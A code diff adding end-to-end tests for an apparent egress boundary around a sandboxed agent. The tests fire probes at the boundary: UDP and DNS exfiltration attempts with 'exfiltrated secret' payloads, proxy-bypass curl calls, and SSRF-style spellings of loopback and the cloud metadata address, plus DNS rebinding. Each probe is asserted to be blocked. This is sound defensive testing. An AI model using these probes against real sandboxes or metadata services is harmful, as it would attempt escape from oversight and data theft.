@@ -11,6 +11,7 @@ from __future__ import annotations
 from typing import Any
 
 from tests.e2e.attack_world import (
+    AGENT_PYTHON,
     AFTER_EOF_PORT,
     ECHO_PORT,
     RESET_PORT,
@@ -81,3 +82,206 @@ report("forward-proxy-itself", **proxy_raw(b"GET http://127.0.0.1:3128/ HTTP/1.1
     assert _decision(agent, f"127.0.0.1:{w.p1}", "connect")["reason"] == "always-blocked"
     assert p["forward-proxy-itself"]["status"] == 403, agent.explain()
     assert w.trap_any_host.reached() == [] and w.trap_named.reached() == []
+
+
+def test_the_boundary_link_port_is_out_of_reach(attack_world: AttackWorld) -> None:
+    """The boundary listens for control on 127.0.0.1:<port> of the root namespace. From the agent's namespace
+    that port on loopback reaches nothing, on the host's address nothing either (no capture listener there:
+    the kernel refuses), and through the proxy it is a denied destination."""
+    w = attack_world
+    run = w.start([AGENT_PYTHON, w.script("""
+deadline = time.time() + 30
+path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "boundary-port")
+while not os.path.exists(path) and time.time() < deadline:
+    time.sleep(0.05)
+port = int(open(path).read())
+for name, host in [("loopback", "127.0.0.1"), ("host-address", HOST)]:
+    sock = dial(host, port)
+    report(name, connect=sock if isinstance(sock, str) else "ok", **({} if isinstance(sock, str) else wait_end(sock)))
+for name, authority in [("connect-loopback", f"127.0.0.1:{port}"), ("connect-name", f"api.test:{port}")]:
+    sock, answer = tunnel(authority)
+    report(name, **(answer or {"status": 200}))
+""")])
+    try:
+        port = run.boundary_port()
+        sink = w.host.listen(port, w.host.address)  # if anything got through to the host on that port, it waits here
+        sink.setblocking(False)
+        (w.agent_dir / "boundary-port").write_text(str(port))
+        agent = run.finish()
+    finally:
+        run.kill()
+        (w.agent_dir / "boundary-port").unlink(missing_ok=True)
+    p = agent.probes
+    assert agent.result.returncode == 0, agent.explain()
+    assert p["loopback"] == {"connect": "refused"}, agent.explain()
+    assert p["host-address"] == {"connect": "refused"}, agent.explain()
+    for name, authority in [("connect-loopback", f"127.0.0.1:{port}"), ("connect-name", f"api.test:{port}")]:
+        assert p[name]["status"] == 403, agent.explain()
+        assert _decision(agent, authority, "connect")["reason"] == "no-matching-endpoint"
+    try:
+        reached = sink.accept()
+    except BlockingIOError:
+        reached = None
+    finally:
+        sink.close()
+    assert reached is None, f"the test host was reached on the boundary's port: {reached}"
+
+
+def test_udp_other_than_dns_never_leaves(attack_world: AttackWorld) -> None:
+    """Datagrams to the host, to its port 53 without DNS in them, to control's loopback and over IPv6: none
+    arrives anywhere. DNS itself, whatever address it is sent to, is answered by the stub, by policy."""
+    w = attack_world
+    exfil_before = w.dns.count("exfil.secret.example")
+    agent = w.run_agent("""
+loose = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for i in range(20):
+    try:
+        loose.sendto(b"exfiltrated secret %d" % i, (HOST, CONFIG["udp"]))
+    except OSError:
+        pass
+loose.close()
+report("host-port", result=udp_probe(HOST, CONFIG["udp"], b"exfiltrated secret")[0])
+report("host-53-not-dns", result=udp_probe(HOST, 53, b"GET / HTTP/1.1\\r\\n\\r\\n")[0])
+report("control-loopback", result=udp_probe("127.0.0.1", CONFIG["p1"], b"hello control")[0])
+report("ipv6", result=udp_probe("2001:db8::1", CONFIG["udp"], b"exfiltrated secret")[0])
+for name, qname in [("dns-allowed", "api.test"), ("dns-exfil", "exfil.secret.example")]:
+    result, data = udp_probe(HOST, 53, dns_query(qname), wait=5)
+    report(name, result=result, rcode=data[3] & 15 if len(data) > 3 else None, answers=int.from_bytes(data[6:8], "big"))
+""")
+    p = agent.probes
+    assert agent.result.returncode == 0, agent.explain()
+    assert p["host-port"]["result"] == "refused", agent.explain()  # local to the namespace: port unreachable
+    assert p["control-loopback"]["result"] == "refused", agent.explain()
+    assert p["ipv6"]["result"] in ("refused", "error:ENETUNREACH", "error:EADDRNOTAVAIL"), agent.explain()
+    assert p["host-53-not-dns"]["result"] in ("silent", "answered:12"), agent.explain()  # no answer, or FORMERR
+    assert (p["dns-allowed"]["rcode"], p["dns-allowed"]["answers"]) == (0, 1), agent.explain()
+    assert p["dns-exfil"]["rcode"] == 5, agent.explain()  # REFUSED, never forwarded
+    assert w.dns.count("exfil.secret.example") == exfil_before
+    assert w.udp_received() == []
+    assert w.trap_any_host.reached() == [] and w.trap_named.reached() == []
+    dns = [e for e in agent.events if e.get("event") == "dns"]
+    assert any(e["name"] == "api.test" and e["decision"] == "answered" for e in dns), agent.explain()
+    assert any(e["name"] == "exfil.secret.example" and e["decision"] == "refused" for e in dns), agent.explain()
+    assert agent.egress() == [], "no TCP was attempted, so no egress decision"
+
+
+def test_ipv6_literals_are_denied_and_never_dialled(attack_world: AttackWorld) -> None:
+    w = attack_world
+    agent = w.run_agent("""
+import subprocess
+code = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "http://[2001:db8::1]:80/"],
+                      capture_output=True, text=True).stdout
+report("curl-proxy", status=code)
+done = subprocess.run(["curl", "-s", "-m", "5", "--noproxy", "*", "http://[2001:db8::1]:80/"], capture_output=True)
+report("curl-direct", exit=done.returncode)
+for name, authority in [("connect-loopback", "[::1]:22"), ("connect-doc", "[2001:db8::1]:443")]:
+    sock, answer = tunnel(authority)
+    report(name, **(answer or {"status": 200}))
+for name, host, port in [("dial-doc", "2001:db8::1", 80), ("dial-loopback-22", "::1", 22)]:
+    sock = dial(host, port)
+    report(name, connect=sock if isinstance(sock, str) else "ok", **({} if isinstance(sock, str) else wait_end(sock)))
+""")
+    p = agent.probes
+    assert agent.result.returncode == 0, agent.explain()
+    assert p["curl-proxy"]["status"] == "403", agent.explain()
+    assert p["curl-direct"]["exit"] not in (0, 28), agent.explain()  # refused at once: reset, not a timeout
+    assert p["connect-loopback"]["status"] == 403 and p["connect-doc"]["status"] == 403, agent.explain()
+    assert p["dial-doc"] == {"connect": "ok", "end": "reset", "data": ""}, agent.explain()
+    assert p["dial-loopback-22"] == {"connect": "refused"}, agent.explain()  # no capture listener on 22
+    decided = {(e["destination"], e["capture"]): e for e in agent.egress()}
+    assert set(decided) == {
+        ("[2001:db8::1]:80", "http-forward"),
+        ("[2001:db8::1]:80", "transparent"),
+        ("[::1]:22", "connect"),
+        ("[2001:db8::1]:443", "connect"),
+    }, agent.explain()
+    for event in decided.values():
+        assert event["decision"] == "deny" and event["reason"] == "no-matching-endpoint", event
+        assert event.get("resolved") is None, f"never dialled: {event}"
+    assert sum(1 for e in agent.egress() if e["capture"] == "transparent") == 2  # curl's and python's
+
+
+# Every way to write "this machine" or "the metadata service" that a client library might dial. On the hostless
+# endpoint (any host name matches port p1) only control's address vetting stands between them and the trap on
+# 127.0.0.1:p1; on port 8000 the policy itself already refuses them.
+CANONICAL_INTERNAL = ["127.0.0.1", "[::ffff:127.0.0.1]", "169.254.169.254", "localhost", "LOCALHOST", "0.0.0.0",
+                      "[::]", "[::1]"]  # fmt: skip
+# Non-canonical numeric spellings are refused as hosts before any address exists: 400 (spec/policy.md §3.17,
+# "forward non-canonical target"), named in the event as invalid-host.
+NON_CANONICAL = ["2130706433", "0x7f.1", "0177.0.0.1", "127.1", "127.0.0.1."]
+
+
+def test_internal_address_spellings_never_reach_loopback(attack_world: AttackWorld) -> None:
+    w = attack_world
+    agent = w.run_agent(f"""
+for h in {CANONICAL_INTERNAL + NON_CANONICAL!r}:
+    for port in (CONFIG["p1"], 8000):
+        sock, answer = tunnel(f"{{h}}:{{port}}")
+        report(f"connect {{h}}:{{port}}", **(answer or {{"status": 200}}))
+        if sock:
+            sock.close()
+        raw = f"GET http://{{h}}:{{port}}/ HTTP/1.1\\r\\nHost: {{h}}:{{port}}\\r\\n\\r\\n".encode()
+        report(f"forward {{h}}:{{port}}", **proxy_raw(raw))
+""")
+    assert agent.result.returncode == 0, agent.explain()
+    assert len(agent.probes) == 4 * len(CANONICAL_INTERNAL + NON_CANONICAL), agent.explain()
+    for spelling in CANONICAL_INTERNAL + NON_CANONICAL:
+        for kind in ("connect", "forward"):
+            trapped = agent.probes[f"{kind} {spelling}:{w.p1}"]
+            expected = 400 if spelling in NON_CANONICAL else 403
+            assert trapped["status"] == expected, f"{kind} {spelling}: {trapped}\n{agent.explain()}"
+            assert trapped["body"]["detail"], trapped
+            denied = agent.probes[f"{kind} {spelling}:8000"]
+            assert (denied["status"], denied["body"]["reason"]) == (403, "no-matching-endpoint"), denied
+    decisions = agent.egress()
+    assert len(decisions) == 4 * len(CANONICAL_INTERNAL + NON_CANONICAL), agent.explain()
+    for event in decisions:
+        assert event["decision"] == "deny", event
+        assert event.get("resolved") is None, event
+        if event["destination"].endswith(f":{w.p1}"):
+            assert event["rule"] == "hostless", event  # the policy let it through: vetting refused it
+            assert event["reason"] in ("always-blocked", "invalid-host"), event
+    assert w.trap_any_host.reached() == [] and w.trap_named.reached() == []
+
+
+def test_a_named_host_answering_loopback_is_refused(attack_world: AttackWorld) -> None:
+    """The policy names loop.test exactly (internal answers allowed for it); its answer is 127.0.0.1, which
+    stays refused: loopback is always blocked."""
+    w = attack_world
+    queries = w.dns.count("loop.test", "A")
+    agent = w.run_agent("""
+sock, answer = tunnel(f"loop.test:{CONFIG['p2']}")
+report("connect", **(answer or {"status": 200}))
+report("forward", **proxy_raw(f"GET http://loop.test:{CONFIG['p2']}/ HTTP/1.1\\r\\nHost: loop.test\\r\\n\\r\\n".encode()))
+""")
+    p = agent.probes
+    assert agent.result.returncode == 0, agent.explain()
+    assert p["connect"]["status"] == 403 and p["connect"]["body"]["reason"] == "always-blocked", agent.explain()
+    assert p["forward"]["status"] == 403 and p["forward"]["body"]["reason"] == "always-blocked", agent.explain()
+    for capture in ("connect", "http-forward"):
+        event = _decision(agent, f"loop.test:{w.p2}", capture)
+        assert (event["decision"], event["rule"], event["reason"]) == ("deny", "named-internal", "always-blocked")
+    assert w.dns.count("loop.test", "A") == queries + 2, "one resolution per connection"
+    assert w.trap_named.reached() == []
+
+
+def test_rebinding_gets_one_resolution_per_connection(attack_world: AttackWorld) -> None:
+    """rebind.test answers the host first and 127.0.0.1 after: the first connection goes to the host, the
+    second is refused, and each connection resolved exactly once (no window between check and dial)."""
+    w = attack_world
+    queries = w.dns.count("rebind.test", "A")
+    agent = w.run_agent("""
+for name in ("first", "second"):
+    sock, answer = tunnel(f"rebind.test:{CONFIG['p2']}")
+    report(name, **(answer or {"status": 200, **echo_check(sock, b"rebound?")}))
+""")
+    p = agent.probes
+    assert agent.result.returncode == 0, agent.explain()
+    assert p["first"] == {"status": 200, "end": "eof", "data": "rebound?"}, agent.explain()
+    assert p["second"]["status"] == 403 and p["second"]["body"]["reason"] == "always-blocked", agent.explain()
+    events = {e["decision"]: e for e in agent.egress(f"rebind.test:{w.p2}", "connect")}
+    assert set(events) == {"allow", "deny"}, agent.explain()  # an allow is logged when it closes: any order
+    assert events["allow"]["resolved"] == w.host.address, events
+    assert events["deny"]["reason"] == "always-blocked", events
+    assert w.dns.count("rebind.test", "A") == queries + 2
+    assert w.trap_named.reached() == []
